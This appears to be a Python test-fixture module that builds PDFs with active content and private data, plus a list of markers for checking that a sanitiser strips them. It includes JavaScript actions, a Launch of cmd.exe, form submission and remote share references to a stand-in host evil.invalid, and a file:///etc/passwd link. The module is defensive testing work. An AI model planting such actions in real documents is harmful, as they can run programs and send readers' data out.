"""PDFs as strangers hand them in: honest ones, and one for each thing that a document may hold and readers must not get."""

import io
from collections.abc import Callable
from typing import Any

from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf, Stream, String


def paper(change: Callable[[Pdf], object] = lambda pdf: None, pages: int = 2, size: tuple[float, float] = (595, 842), **settings: Any) -> bytes:
    """A PDF of empty pages, changed before it is saved with the settings of pikepdf."""
    with Pdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=size)
        change(pdf)
        buffer = io.BytesIO()
        pdf.save(buffer, static_id=True, **settings)
    return buffer.getvalue()


def drawn(operators: bytes) -> Callable[[Pdf], None]:
    """Puts a drawing on the first page."""

    def change(pdf: Pdf) -> None:
        pdf.pages[0].Contents = Stream(pdf, operators)

    return change


def noted(**note: Any) -> Callable[[Pdf], None]:
    """Puts an annotation on the first page, a link if nothing else is said."""

    def change(pdf: Pdf) -> None:
        fields = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])} | note
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(**fields))])

    return change


def script() -> Dictionary:
    """An action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opens_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script()


def page_script(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=script())


def named_script(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script())])))


def outlined_script(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Open"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def attached_file(pdf: Pdf) -> None:
    pdf.attachments["list.xlsx"] = b"names of children"


def hidden_file(pdf: Pdf) -> None:
    """A file inside the document that only an annotation's entry of no known meaning leads to."""
    stream = Stream(pdf, b"names of children", Type=Name.EmbeddedFile)
    noted(Subtype=Name.Highlight, Mela=pdf.make_indirect(stream))(pdf)


def form_program(pdf: Pdf) -> None:
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=script())))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Array([String("template"), Stream(pdf, b"<xdp/>")]))


def signed(pdf: Pdf) -> None:
    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 9, 9, 9]), Contents=String("certificate of Asha Verma"), Name=String("Asha Verma"))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("signature"), V=value))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def described(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = "Asha Verma"
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["Asha Verma"]
    pdf.pages[0].PieceInfo = Dictionary(App=Dictionary(Private=String("Asha Verma")))
    pdf.trailer["/Made"] = Dictionary(By=String("Asha Verma"))


def from_elsewhere(pdf: Pdf) -> None:
    """Drawings whose data lies in another file (ISO 32000-2, 7.3.8.2 and 8.10.4)."""
    outside = Stream(pdf, b"", F=String("//evil.invalid/share/page.bin"))
    reference = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Ref=Dictionary(F=String("//evil.invalid/a.pdf"), Page=0))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=outside, B=reference))


HARMS: dict[str, Callable[[Pdf], object]] = {
    "script at the opening": opens_script,
    "script of a page": page_script,
    "script by name": named_script,
    "script of the outline": outlined_script,
    "file inside": attached_file,
    "file inside that nothing lists": hidden_file,
    "form with a program": form_program,
    "signature": signed,
    "metadata": described,
    "data from another file": from_elsewhere,
    "program to start": noted(A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "script of a link": noted(A=script()),
    "other document": noted(A=Dictionary(S=Name.GoToR, F=String("//evil.invalid/share"))),
    "file inside to open": noted(A=Dictionary(S=Name.GoToE, F=String("a.pdf"))),
    "form to send": noted(A=Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid"))),
    "data to read": noted(A=Dictionary(S=Name.ImportData, F=String("a.fdf"))),
    "command of the reader": noted(A=Dictionary(S=Name.Named, N=Name.SaveAs)),
    "script as address": noted(A=Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))),
    "file as address": noted(A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
    "telephone number": noted(A=Dictionary(S=Name.URI, URI=String("tel:+911234567890"))),
    "script behind an address": noted(A=Dictionary(S=Name.URI, URI=String("https://example.org"), Next=script())),
    "script behind a place": noted(A=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script()]))),
    "script of an event": noted(AA=Dictionary(U=script())),
    "film": noted(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))),
    "remark with its writer": noted(Subtype=Name.Text, Contents=String("see Asha Verma"), T=String("Asha Verma")),
    "mark with its writer": noted(Subtype=Name.Highlight, T=String("Asha Verma"), M=String("D:20260101"), RC=String("<body>Asha Verma</body>")),
}
"""What changes an honest PDF into a harmful one."""

HARMFUL = (
    *(b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/GoToR", b"/GoToE", b"/SubmitForm", b"/ImportData", b"/Rendition", b"/SaveAs"),
    *(b"/EmbeddedFile", b"/Filespec", b"/XFA", b"/RichMedia", b"/FileAttachment", b"/Metadata", b"/PieceInfo", b"/ByteRange", b"xpacket"),
    *(b"javascript:", b"file:", b"tel:", b"cmd.exe", b"evil.invalid", b"Asha Verma", b"names of children"),
)
"""What stands nowhere in a PDF that is published, once it is written out."""


def written_out(content: bytes) -> bytes:
    """The PDF with nothing packed, so that every name in it can be looked for; what its streams draw and show is left out, their own entries are not."""
    with Pdf.open(io.BytesIO(content)) as pdf:
        for thing in pdf.objects:
            if isinstance(thing, Stream) and thing.get("/Filter") is not None:
                thing.write(b"")
        buffer = io.BytesIO()
        pdf.save(buffer, object_stream_mode=ObjectStreamMode.disable, compress_streams=False, fix_metadata_version=False)
    return buffer.getvalue()


def harm_in(content: bytes) -> list[bytes]:
    """What of HARMFUL stands in a PDF."""
    text = written_out(content)
    return [word for word in HARMFUL if word in text.replace(b"/AAPL", b"")]
